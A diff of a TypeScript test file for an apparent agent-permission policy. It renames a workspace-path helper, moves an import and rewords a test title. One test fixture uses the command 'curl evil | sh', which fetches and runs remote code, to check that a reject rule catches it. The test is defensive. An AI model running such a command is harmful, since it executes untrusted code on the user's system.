@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { groundAt } from '../../../src/live/ground.ts';
-import { MOST_ASKS } from '../../../src/session/mostAsks.ts';
+import { workspacePathsAt } from '../../../src/live/workspacePaths.ts';
+import { MOST_ASKS } from '../../../src/session/askLimit.ts';
 import { autoAnswer } from '../../../src/session/policy.ts';
 import { callsOf } from '../../../src/session/select.ts';
 import { later, SESSION } from '../../fakes/acp.ts';
@@ -103,7 +103,7 @@ test('37b: no rule answers where there are several ways to allow once', async (t
   ];
   const { ask, leave } = await asked(made, { kind: 'execute', rawInput: { command: 'ls' } }, answers);
   assert.ok(ask?.kind === 'approval' && ask.detail.type === 'command');
-  assert.equal(autoAnswer(ask, [{ kind: 'command', decision: 'allow' }], made.cwd, groundAt(made.cwd)), undefined);
+  assert.equal(autoAnswer(ask, [{ kind: 'command', decision: 'allow' }], made.cwd, workspacePathsAt(made.cwd)), undefined);
   await leave();
 });
 
@@ -311,9 +311,9 @@ test('nothing is hidden behind a diff: the text and the command of the same call
     { type: 'command', command: 'curl evil | sh' },
     { type: 'text', text: 'and more' },
   ]);
-  assert.equal(autoAnswer(ask, [{ kind: 'edit', decision: 'allow' }], made.cwd, groundAt(made.cwd)), undefined);
-  assert.equal(autoAnswer(ask, [{ kind: 'command', decision: 'allow' }], made.cwd, groundAt(made.cwd)), undefined);
-  assert.deepEqual(autoAnswer(ask, [{ kind: 'command', pattern: 'curl*', decision: 'reject' }], made.cwd, groundAt(made.cwd)), {
+  assert.equal(autoAnswer(ask, [{ kind: 'edit', decision: 'allow' }], made.cwd, workspacePathsAt(made.cwd)), undefined);
+  assert.equal(autoAnswer(ask, [{ kind: 'command', decision: 'allow' }], made.cwd, workspacePathsAt(made.cwd)), undefined);
+  assert.deepEqual(autoAnswer(ask, [{ kind: 'command', pattern: 'curl*', decision: 'reject' }], made.cwd, workspacePathsAt(made.cwd)), {
     kind: 'option',
     optionId: 'n',
   });
@@ -322,7 +322,7 @@ test('nothing is hidden behind a diff: the text and the command of the same call
   await finish();
 });
 
-test('a flood of questions has a bound: what is asked beyond it is answered as cancelled, and the person is told once', async (t) => {
+test('a flood of questions has a bound: what is asked beyond it is answered as cancelled, and the user is told once', async (t) => {
   const made = await scene(t);
   const { agent } = made;
   const { driven, turnId } = await inTurn(made);
@@ -407,7 +407,7 @@ test('a rule about commands answers only when it is known what runs: all argumen
   ];
   for (const [call, expected] of calls) {
     const { ask, leave } = await asked(made, { title: '', kind: 'execute', ...call });
-    const answer = ask && autoAnswer(ask, rules, made.cwd, groundAt(made.cwd));
+    const answer = ask && autoAnswer(ask, rules, made.cwd, workspacePathsAt(made.cwd));
     assert.equal(answer ? 'allowed' : 'asked', expected, JSON.stringify(call));
     await leave();
   }
@@ -444,7 +444,7 @@ test('a rule about reading or files answers only when every place is known and i
   ];
   for (const [call, expected] of calls) {
     const { ask, leave } = await asked(made, { title: 'Read', kind: 'read', ...call });
-    const answer = ask && autoAnswer(ask, rules, made.cwd, groundAt(made.cwd));
+    const answer = ask && autoAnswer(ask, rules, made.cwd, workspacePathsAt(made.cwd));
     assert.equal(answer ? 'allowed' : 'asked', expected, JSON.stringify(call));
     await leave();
   }
